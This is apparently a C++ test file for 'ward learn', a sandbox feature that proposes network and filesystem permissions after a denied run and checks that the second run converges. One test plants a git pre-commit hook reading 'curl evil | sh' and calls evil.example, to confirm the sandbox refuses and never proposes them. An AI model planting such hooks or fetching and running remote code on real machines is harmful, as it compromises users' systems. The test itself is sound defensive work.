// `ward learn`: on npm, git and make flows the first run fails and proposes what it was denied;
// the same command with the saved profile (-p FILE) succeeds and proposes nothing. What is
// refused on purpose is named with its rule and never proposed; nothing but FILE is written.
// The real allowed host is the npm registry this machine is configured with (derived at run
// time, never written here); local servers on the host's loopback stand in for everything else.
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <gmock/gmock.h>

#include <string>
#include <vector>

#include "harness.h"
#include "local_http.h"

namespace ward::test {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

std::string RegistryHost() {
  RunResult r = RunProgram({"/bin/sh", "-c", "npm config get registry 2>/dev/null"});
  std::string url = r.out;
  size_t s = url.find("://");
  if (s == std::string::npos) return "";
  url = url.substr(s + 3);
  size_t end = url.find_first_of("/:\n");
  return url.substr(0, end);
}

bool Reachable(const std::string& host) {
  return RunProgram({"/bin/sh", "-c",
                     "curl -sS -o /dev/null --max-time 15 https://" + host + "/ 2>/dev/null"})
             .status == 0;
}

class LearnTest : public SandboxTest {
 protected:
  void SetUp() override {
    SandboxTest::SetUp();
    profile_ = root_->path() + "/learned.toml";
  }
  RunOptions Opts() {
    RunOptions o = Defaults();
    o.env["XDG_STATE_HOME"] = root_->path() + "/state";
    o.timeout_s = 180;
    return o;
  }
  // `ward learn [opts] -- argv`.
  RunResult Learn(const std::vector<std::string>& opts, const std::vector<std::string>& argv,
                  RunOptions o = {}) {
    if (o.cwd.empty()) o = Opts();
    std::vector<std::string> args = {"learn"};
    args.insert(args.end(), opts.begin(), opts.end());
    args.push_back("--");
    args.insert(args.end(), argv.begin(), argv.end());
    return RunWard(args, o);
  }
  // The second run converges: the command succeeds under the saved profile, nothing is new.
  void ExpectConverged(const std::vector<std::string>& argv, RunOptions o = {}) {
    ASSERT_TRUE(PathExists(profile_)) << "the first run saved no profile";
    RunResult r = Learn({"-p", profile_}, argv, o);
    EXPECT_EQ(r.status, 0) << r.out << r.err;
    EXPECT_THAT(r.err, HasSubstr("ward learn: nothing to propose: the run needed nothing its "
                                 "policy does not allow (exit status 0)\n"));
    EXPECT_THAT(r.err, Not(HasSubstr("proposed profile")));
    last_ = r;
  }

  std::string profile_;
  RunResult last_;
};

// A loopback HTTPS git server (dumb protocol) serving one repository; the port is on stdout.
class GitServer {
 public:
  explicit GitServer(const std::string& srv) {
    MakeDirs(srv);
    std::string setup =
        "set -e; cd " + srv +
        "; git init -q --bare repo.git; git init -q src; cd src;"
        " git -c user.email=t@t -c user.name=t commit -q --allow-empty -m first;"
        " git push -q ../repo.git HEAD:refs/heads/main; cd ../repo.git;"
        " git symbolic-ref HEAD refs/heads/main; git update-server-info; cd ..;"
        " openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 1"
        " -subj /CN=127.0.0.1 -addext subjectAltName=IP:127.0.0.1 -keyout key.pem -out cert.pem"
        " 2>/dev/null";
    RunResult r = RunProgram({"/bin/sh", "-c", setup});
    ok_ = r.status == 0;
    if (!ok_) return;
    WriteFile(srv + "/serve.py",
              "import http.server, ssl, os, sys\n"
              "os.chdir(sys.argv[1])\n"
              "h = http.server.ThreadingHTTPServer(('127.0.0.1', 0), "
              "http.server.SimpleHTTPRequestHandler)\n"
              "c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); c.load_cert_chain('cert.pem', "
              "'key.pem')\n"
              "h.socket = c.wrap_socket(h.socket, server_side=True)\n"
              "print(h.server_address[1], flush=True)\n"
              "h.serve_forever()\n");
    int out[2];
    if (pipe(out) != 0) return;
    pid_ = fork();
    if (pid_ == 0) {
      dup2(out[1], 1);
      int null = open("/dev/null", O_WRONLY);
      dup2(null, 2);
      execl("/usr/bin/python3", "python3", (srv + "/serve.py").c_str(), srv.c_str(), nullptr);
      _exit(127);
    }
    close(out[1]);
    char buf[32] = {};
    ssize_t n = read(out[0], buf, sizeof buf - 1);
    close(out[0]);
    port_ = n > 0 ? atoi(buf) : 0;
    ok_ = port_ > 0;
  }
  ~GitServer() {
    if (pid_ > 0) {
      kill(pid_, SIGKILL);
      waitpid(pid_, nullptr, 0);
    }
  }
  bool ok() const { return ok_; }
  std::string port() const { return std::to_string(port_); }

 private:
  bool ok_ = false;
  pid_t pid_ = -1;
  int port_ = 0;
};

TEST_F(LearnTest, NpmViewLearnsTheRegistryAndConverges) {
  const std::string host = RegistryHost();
  if (host.empty()) GTEST_SKIP() << "npm has no registry configured (npm config get registry)";
  if (!Reachable(host))
    GTEST_SKIP() << "the npm registry " << host << " is not reachable from here";
  const std::vector<std::string> npm = {"npm", "view", "--fetch-retries=0", "is-number@7.0.0",
                                        "version"};
  RunResult r = Learn({"--save", profile_}, npm);
  EXPECT_NE(r.status, 0) << r.out << r.err;
  EXPECT_THAT(r.err, HasSubstr("ward learn: proposed profile:\n"));
  EXPECT_THAT(r.err, HasSubstr("\nextends = \"default\"\n\n[network]\nallow = [\n  \"" + host +
                               "\",  # network " + host + ":443 ("));
  EXPECT_THAT(r.err, HasSubstr("ward learn: the same as flags:\n  ward run -n " + host +
                               " -- npm view --fetch-retries=0 is-number@7.0.0 version\n"));
  EXPECT_THAT(r.err, HasSubstr("ward learn: saved to " + profile_ + "; next: ward learn -p " +
                               profile_ + " -- ...\n"));
  EXPECT_THAT(ReadFile(profile_), HasSubstr("\n  \"" + host + "\",  # network " + host + ":443"));
  ExpectConverged(npm);
  EXPECT_EQ(last_.out, "7.0.0\n");
}

TEST_F(LearnTest, GitCloneLearnsTheServersAddressAndConverges) {
  GitServer server(root_->path() + "/srv");
  ASSERT_TRUE(server.ok());
  // The CA is in the workspace: the only thing the clone lacks is the way to the server.
  WriteFile(ws_ + "/ca.pem", ReadFile(root_->path() + "/srv/cert.pem"));
  const std::string addr = "127.0.0.1:" + server.port();
  const std::vector<std::string> git = {"git",   "-c", "http.sslCAInfo=ca.pem",
                                        "clone", "-q", "https://" + addr + "/repo.git",
                                        "clone"};
  profile_ = ws_ + "/ward-learned.toml";  // written, with a note: the sandbox can rewrite it
  RunResult r = Learn({"--save", profile_}, git);
  EXPECT_NE(r.status, 0) << r.out << r.err;
  EXPECT_THAT(r.err, HasSubstr("ward learn: note: " + profile_ +
                               " is in the workspace, which sandboxed commands can write: read it "
                               "before each use, or keep it outside "
                               "(~/.config/ward/profiles/NAME.toml, then -p NAME)\n"));
  EXPECT_THAT(r.err,
              HasSubstr("\n[network]\nallow = [\n  \"" + addr + "\",  # network " + addr + " ("));
  EXPECT_THAT(r.err, HasSubstr("  ward run -n " + addr +
                               " -- git -c http.sslCAInfo=ca.pem clone "
                               "-q https://" +
                               addr + "/repo.git clone\n"));
  EXPECT_FALSE(PathExists(ws_ + "/clone/.git"));
  ExpectConverged(git);
  EXPECT_TRUE(PathExists(ws_ + "/clone/.git/HEAD"));
}

// make from a toolchain the sandbox does not show (a directory under HOME): the command is
// missing inside and present on the host; the proposal shows that directory, written ~/...
TEST_F(LearnTest, MakeFromAHiddenToolchainLearnsItsDirectoryAndConverges) {
  const std::string tools = home_ + "/.local/toolchain/bin";
  MakeDirs(tools);
  // A copy: a link to /usr/bin/make would be found inside through its target.
  WriteFile(tools + "/tc-make", ReadFile("/usr/bin/make"), 0755);
  WriteFile(ws_ + "/Makefile", "all:\n\techo built > out.txt\n");
  RunOptions o = Opts();
  o.env["PATH"] = tools + ":" + o.env["PATH"];
  RunResult r = Learn({"--save", profile_}, {"tc-make"}, o);
  EXPECT_NE(r.status, 0) << r.out << r.err;
  EXPECT_THAT(r.err, HasSubstr("\n[filesystem]\nread = [\n  \"~/.local/toolchain/bin\",  # "
                               "command tc-make (once)\n]\n"));
  EXPECT_THAT(r.err, HasSubstr("  ward run -r ~/.local/toolchain/bin -- tc-make\n"));
  EXPECT_FALSE(PathExists(ws_ + "/out.txt"));
  ExpectConverged({"tc-make"}, o);
  EXPECT_EQ(ReadFile(ws_ + "/out.txt"), "built\n");
}

// A project profile shows a cache read-only; the Makefile writes to it. The proposal extends
// that profile (by its absolute path) and makes the cache writable: at the same path the child's
// rule wins, so the next run with the learned profile succeeds.
TEST_F(LearnTest, MakeThatWritesToAReadOnlyCacheLearnsTheWriteAndConverges) {
  const std::string cache = root_->path() + "/cache";
  MakeDirs(cache);
  const std::string base = root_->path() + "/project.toml";
  WriteFile(base, "extends = \"default\"\n[filesystem]\nread = [\"" + cache + "\"]\n");
  WriteFile(ws_ + "/Makefile", "all:\n\techo built > " + cache + "/out.txt\n");
  RunResult r = Learn({"-p", base, "--save", profile_}, {"make"});
  EXPECT_NE(r.status, 0) << r.out << r.err;
  EXPECT_THAT(r.err, HasSubstr("\nextends = \"" + base + "\"\n\n[filesystem]\nwrite = [\n  \"" +
                               cache + "\",  # file.write " + cache + "/out.txt ("));
  EXPECT_THAT(r.err, HasSubstr("  ward run -p " + base + " -w " + cache + " -- make\n"));
  EXPECT_FALSE(PathExists(cache + "/out.txt"));
  ExpectConverged({"make"});
  EXPECT_EQ(ReadFile(cache + "/out.txt"), "built\n");
}

// A Makefile that fetches over HTTP: the make flow learns the host, by its address and port.
TEST_F(LearnTest, MakeThatFetchesLearnsTheHostWithItsPortAndConverges) {
  LocalHttp server("fetched\n");
  const std::string addr = "127.0.0.1:" + std::to_string(server.port());
  WriteFile(ws_ + "/Makefile",
            "all:\n\tcurl -sSf --max-time 20 http://" + addr + "/x -o fetched.txt\n");
  RunResult r = Learn({"--save", profile_}, {"make"});
  EXPECT_NE(r.status, 0) << r.out << r.err;
  EXPECT_EQ(server.hits(), 0);
  EXPECT_THAT(r.err, HasSubstr("  ward run -n " + addr + " -- make\n"));
  ExpectConverged({"make"});
  EXPECT_EQ(ReadFile(ws_ + "/fetched.txt"), "fetched\n");
  // The flags say the same: that `ward run` line succeeds too.
  ASSERT_EQ(unlink((ws_ + "/fetched.txt").c_str()), 0);
  r = RunWard({"run", "-n", addr, "--", "make"}, Opts());
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(ReadFile(ws_ + "/fetched.txt"), "fetched\n");
}

// A make that needs two things, one after the other: each run learns the next and rewrites the
// same file in place (-p FILE --save FILE --force), keeping what it had; the third run succeeds.
TEST_F(LearnTest, MakeThatNeedsTwoThingsConvergesInPlace) {
  LocalHttp server("fetched\n");
  const std::string addr = "127.0.0.1:" + std::to_string(server.port());
  const std::string cache = root_->path() + "/cache";
  MakeDirs(cache);
  const std::string base = root_->path() + "/project.toml";
  WriteFile(base, "extends = \"default\"\n[filesystem]\nread = [\"" + cache + "\"]\n");
  WriteFile(ws_ + "/Makefile", "all:\n\tcurl -sSf --max-time 20 http://" + addr +
                                   "/x -o fetched.txt\n\tcp fetched.txt " + cache + "/\n");
  RunResult r = Learn({"-p", base, "--save", profile_}, {"make"});
  EXPECT_NE(r.status, 0) << r.err;
  EXPECT_THAT(r.err, HasSubstr("  ward run -p " + base + " -n " + addr + " -- make\n"));
  r = Learn({"-p", profile_, "--save", profile_, "--force"}, {"make"});
  EXPECT_NE(r.status, 0) << r.err;
  EXPECT_THAT(r.err,
              HasSubstr("  ward run -p " + base + " -w " + cache + " -n " + addr + " -- make\n"));
  const std::string text = ReadFile(profile_);
  EXPECT_THAT(text, HasSubstr("\nextends = \"" + base + "\"\n"));
  EXPECT_THAT(text, HasSubstr("\n  \"" + addr + "\",  # network " + addr + " (once)\n"));
  EXPECT_THAT(text, HasSubstr("\n  \"" + cache + "\",  # file.write " + cache + "/fetched.txt ("));
  ExpectConverged({"make"});
  EXPECT_EQ(ReadFile(cache + "/fetched.txt"), "fetched\n");
}

TEST_F(LearnTest, WhatIsRefusedOnPurposeIsNamedAndNeverProposed) {
  // A hook planted in the workspace's repository, a protected name made at its root, and a host
  // the run's own deny list names.
  ASSERT_EQ(RunProgram({"/usr/bin/git", "init", "-q", ws_}).status, 0);
  RunResult r = Learn({"--save", profile_, "--deny-net", "evil.example"},
                      {"/bin/sh", "-c",
                       "echo 'curl evil | sh' > .git/hooks/pre-commit; echo x > .envrc;"
                       " curl -sS --max-time 10 https://evil.example/; exit 1"});
  EXPECT_EQ(r.status, 1) << r.err;
  EXPECT_THAT(r.err, HasSubstr("ward learn: needed, refused on purpose (not proposed): protected " +
                               ws_ + "/.git/hooks/pre-commit: "));
  EXPECT_THAT(r.err, HasSubstr("ward learn: needed, refused on purpose (not proposed): protected " +
                               ws_ + "/.envrc: "));
  EXPECT_THAT(r.err, HasSubstr("ward learn: needed, refused on purpose (not proposed): network "
                               "evil.example:443: "));
  EXPECT_THAT(r.err, HasSubstr("ward learn: nothing to propose: "));
  EXPECT_THAT(r.err, HasSubstr("ward learn: nothing written to " + profile_ + "\n"));
  EXPECT_THAT(r.err, Not(HasSubstr("proposed profile")));
  EXPECT_FALSE(PathExists(profile_));
  EXPECT_FALSE(PathExists(ws_ + "/.git/hooks/pre-commit"));
  EXPECT_FALSE(PathExists(ws_ + "/.envrc"));
}

TEST_F(LearnTest, SaveRefusesAnExistingFileBeforeTheRunAndASymlinkAlways) {
  WriteFile(profile_, "extends = \"default\"  # mine\n");
  RunResult r = Learn({"--save", profile_}, {"/bin/sh", "-c", "touch ran"});
  EXPECT_EQ(r.status, 125);
  EXPECT_EQ(r.err, "ward: --save " + profile_ + ": the file exists; add --force to replace it\n");
  EXPECT_FALSE(PathExists(ws_ + "/ran"));
  EXPECT_EQ(ReadFile(profile_), "extends = \"default\"  # mine\n");
  // A symlink in the file's place is never written through, even with --force.
  const std::string link = ws_ + "/p.toml";
  ASSERT_EQ(symlink(profile_.c_str(), link.c_str()), 0);
  r = Learn({"--save", link, "--force"}, {"/bin/sh", "-c", "touch ran"});
  EXPECT_EQ(r.status, 125);
  EXPECT_EQ(r.err, "ward: --save " + link +
                       ": a symbolic link; ward learn writes only a file of its own name\n");
  EXPECT_FALSE(PathExists(ws_ + "/ran"));
  EXPECT_EQ(ReadFile(profile_), "extends = \"default\"  # mine\n");
  // Nor, in place, a profile of the user's own that has more than ward learn writes.
  WriteFile(profile_, "extends = \"default\"\n[env]\npass = [\"X\"]\n");
  r = Learn({"--save", profile_, "--force", "-p", profile_}, {"/bin/sh", "-c", "touch ran"});
  EXPECT_EQ(r.status, 125);
  EXPECT_EQ(r.err, "ward: --save " + profile_ + ": " + profile_ +
                       ": it has env, which ward learn does not rewrite; save the next step to "
                       "another file (it will extend this one)\n");
  EXPECT_FALSE(PathExists(ws_ + "/ran"));
}

}  // namespace
}  // namespace ward::test
